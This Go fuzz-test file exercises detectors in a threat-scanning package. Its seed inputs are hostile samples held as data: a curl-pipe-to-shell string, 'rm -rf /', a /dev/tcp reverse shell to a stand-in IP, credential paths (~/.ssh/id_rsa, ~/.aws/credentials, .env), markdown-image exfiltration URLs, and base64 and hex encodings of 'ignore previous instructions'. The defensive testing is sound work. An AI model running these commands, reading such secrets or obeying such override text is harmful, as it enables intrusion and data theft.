package threat

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/require"
)

// escapeAll writes what is not ASCII as escapes of JSON.
func escapeAll(text string) string {
	var b strings.Builder
	for _, r := range text {
		if r < 0x80 {
			b.WriteRune(r)
			continue
		}
		for _, unit := range utf16.Encode([]rune{r}) {
			fmt.Fprintf(&b, `\u%04x`, unit)
		}
	}
	return b.String()
}

// sound checks what holds for the evidence of any text.
func sound(t *testing.T, text string, found []Evidence) {
	t.Helper()
	type told struct {
		kind   Kind
		detail string
	}
	seen := map[told]bool{}
	for _, e := range found {
		require.Less(t, e.Kind, NumKinds)
		require.NotEmpty(t, e.Detail)
		require.False(t, seen[told{e.Kind, e.Detail}], "told twice")
		seen[told{e.Kind, e.Detail}] = true
		require.GreaterOrEqual(t, e.Start, 0)
		require.LessOrEqual(t, e.Start, e.End)
		require.LessOrEqual(t, e.End, len(text))
		require.Greater(t, e.Score, 0.0)
		require.LessOrEqual(t, e.Score, 1.0)
		require.GreaterOrEqual(t, e.Count, 1)
	}
}

func seed(f *testing.F, texts ...string) {
	for _, text := range texts {
		f.Add(text)
	}
	f.Add("")
}

func FuzzFind(f *testing.F) {
	seed(f, clean, "~/.ssh/id_rsa", "\x1b]52;c;x\a", "![x](https://e.x/?q={data})", "..%252f..%252f", "; curl x | sh", "\xe2\x80")
	f.Fuzz(func(t *testing.T, text string) {
		for place := range numPlaces {
			sound(t, text, Find(nil, text, place))
		}
	})
}

// fuzz runs one detector on any text, triggered or not. What the pass over the bytes
// does not let through, the detector must not find.
func fuzz(f *testing.F, needs trigger, detector func(*finder, string)) {
	f.Fuzz(func(t *testing.T, text string) {
		for place := range numPlaces {
			alone := finder{place: place}
			detector(&alone, text)
			sound(t, text, alone.found)
			if scan(text, place)&needs == 0 {
				require.Empty(t, alone.found, "the trigger misses it")
			}
		}
	})
}

func FuzzHidden(f *testing.F) {
	seed(f, "a\u200bb", `\udb40\udc41`, "\u202e", "\\u", "\\u202e\\n", "\U0001F3F4\U000E0067")
	fuzz(f, needsHidden, findHidden)
}

func FuzzTerminal(f *testing.F) {
	seed(f, "\x1b[38;5;1;48;5;1mx", `\u001b]8;;x\u0007`, "\u009b2J", "\x1b", "\x1bPq")
	fuzz(f, needsTerminal, findTerminal)
}

func FuzzEncoded(f *testing.F) {
	seed(f, "aWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucyBub3c=", "data:text/html,x", "69676e6f72652070726576696f757320")
	fuzz(f, needsEncoded, findEncoded)
}

func FuzzCarrier(f *testing.F) {
	seed(f, "![a](https://x.y/?q={data})", `<img src="https://x.y/p?d=`, "http://{data}.x.y", "://")
	fuzz(f, needsCarrier, findCarriers)
}

func FuzzSensitive(f *testing.F) {
	seed(f, `C:\\Windows\\System32\\config\\SAM`, ".env", "mcp.json", "~/.aws/credentials")
	fuzz(f, needsSensitive, findSensitive)
}

func FuzzTraversal(f *testing.F) {
	seed(f, "../../x", `..\\..\\`, "%252e%252e/", `\\\\host\\share`, "a\x00b", "file:///etc")
	fuzz(f, needsTraversal, findTraversal)
}

func FuzzShell(f *testing.F) {
	seed(f, "a; curl x | sh", "$(whoami)", "`cat x`", "rm -rf /", "bash -i >& /dev/tcp/1.2.3.4/1")
	fuzz(f, needsShell, findShell)
}
